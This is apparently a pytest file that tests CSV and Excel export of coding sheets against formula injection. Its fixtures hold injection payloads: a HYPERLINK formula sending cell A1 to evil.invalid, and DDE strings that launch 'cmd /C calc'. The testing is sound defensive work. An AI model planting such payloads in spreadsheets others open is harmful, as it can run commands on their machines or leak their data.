"""Coding sheets never turn unit text into a live formula (CSV / formula
injection), give every text back unchanged, and refuse formulas typed where a
code belongs."""

from __future__ import annotations

import csv

import pandas as pd
import pytest

import analysis
from analysis.validation.coding import CodingSheetError

CODEBOOK = {"security": "=HYPERLINK(\"http://x.invalid\",\"safety\")",
            "rights": "Human and civil rights.", "economy": "Markets, prices."}
HOSTILE = ['=HYPERLINK("http://evil.invalid/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=already quoted",
           "'plain quote", "an ordinary comment", "=1"]


@pytest.fixture
def sample():
    return pd.DataFrame({"unit_id": [f"u{i}" for i in range(len(HOSTILE))] + ["-u"],
                         "doc_id": "d1", "outlet": ["=outlet"] * (len(HOSTILE) + 1),
                         "role": "comment", "text": HOSTILE + ["@handle said"]})


def test_csv_cells_that_look_like_formulas_start_with_a_quote(tmp_path, sample):
    path = analysis.write_coding_sheet(sample, CODEBOOK, tmp_path / "ann.csv", coder="ann")
    written = pd.read_csv(path, dtype=str, keep_default_na=False)
    for raw, cell in zip(sample["text"], written["text"], strict=True):
        if raw.startswith(("=", "+", "-", "@", "\t", "\r", "'")):
            assert cell == "'" + raw
        else:
            assert cell == raw
    assert (written["outlet"] == "'=outlet").all() and written["unit_id"].iloc[-1] == "'-u"
    book = pd.read_csv(tmp_path / "ann.codebook.csv", dtype=str, keep_default_na=False)
    assert book.set_index("category").loc["security", "definition"].startswith("'=")


def test_csv_round_trip_gives_the_original_text(tmp_path, sample):
    path = analysis.write_coding_sheet(sample, CODEBOOK, tmp_path / "ann.csv", coder="ann")
    sheet = pd.read_csv(path, dtype=str, keep_default_na=False)
    sheet["security"] = "1"
    sheet.to_csv(path, index=False, quoting=csv.QUOTE_ALL)
    long = analysis.read_coding_sheets([path])
    assert long["unit_id"].tolist() == sample["unit_id"].tolist()  # '-u' read back as -u
    from analysis.validation.coding import _read_table

    back, book, _ = _read_table(path)
    assert back["text"].tolist() == sample["text"].tolist()
    assert back["outlet"].tolist() == sample["outlet"].tolist()
    assert book.set_index("category").loc["security", "definition"] == CODEBOOK["security"]


def test_excel_cells_are_text_never_formulas(tmp_path, sample):
    openpyxl = pytest.importorskip("openpyxl")
    path = analysis.write_coding_sheet(sample, CODEBOOK, tmp_path / "bea.xlsx", coder="bea")
    wb = openpyxl.load_workbook(path)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    header = [c.value for c in wb["units"][1]]
    texts = [row[header.index("text")] for row in wb["units"].iter_rows(min_row=2)]
    assert [c.value for c in texts] == sample["text"].tolist()
    assert all(c.quotePrefix for c in texts if c.value.startswith(("=", "+", "-", "@", "\t", "\r")))
    ws = wb["units"]
    for row in range(2, ws.max_row + 1):
        ws.cell(row=row, column=header.index("rights") + 1, value=0)
    wb.save(path)
    long = analysis.read_coding_sheets([path])
    assert long["unit_id"].tolist() == sample["unit_id"].tolist()
    assert set(long["code"]) == {0}


def test_formula_typed_into_a_code_column_is_an_error(tmp_path, sample):
    openpyxl = pytest.importorskip("openpyxl")
    path = analysis.write_coding_sheet(sample, CODEBOOK, tmp_path / "cy.xlsx", coder="cy")
    wb = openpyxl.load_workbook(path)
    ws = wb["units"]
    header = [c.value for c in ws[1]]
    ws.cell(row=2, column=header.index("economy") + 1, value=1)
    ws.cell(row=4, column=header.index("economy") + 1, value="=1+0")  # computes to 1 in Excel
    wb.save(path)
    with pytest.raises(CodingSheetError, match=r"cy\.xlsx: sheet 'units', row 4, column 'economy'"
                                               r": a formula \('=1\+0'\)"):
        analysis.read_coding_sheets([path])


def test_formula_in_a_csv_code_column_is_an_error(tmp_path, sample):
    path = analysis.write_coding_sheet(sample, CODEBOOK, tmp_path / "dee.csv", coder="dee")
    sheet = pd.read_csv(path, dtype=str, keep_default_na=False)
    sheet.loc[2, "rights"] = "=1"
    sheet.to_csv(path, index=False, quoting=csv.QUOTE_ALL)
    with pytest.raises(CodingSheetError, match=r"dee\.csv: row 4, column 'rights': a formula"):
        analysis.read_coding_sheets([path])


def test_csv_header_of_a_hostile_category_name_is_escaped(tmp_path, sample):
    book = {"=cmd|' /C calc'!A0": "A category whose name looks like a formula.", "rights": "R."}
    path = analysis.write_coding_sheet(sample, book, tmp_path / "eli.csv", coder="eli")
    header = path.read_text(encoding="utf-8").splitlines()[0]
    assert "\"'=cmd|' /C calc'!A0\"" in header and ',"=' not in header
    sheet = pd.read_csv(path, dtype=str, keep_default_na=False)
    sheet["'=cmd|' /C calc'!A0"] = "1"
    sheet.to_csv(path, index=False, quoting=csv.QUOTE_ALL)
    long = analysis.read_coding_sheets([path])
    assert set(long["category"]) == {"=cmd|' /C calc'!A0"} and len(long) == len(sample)
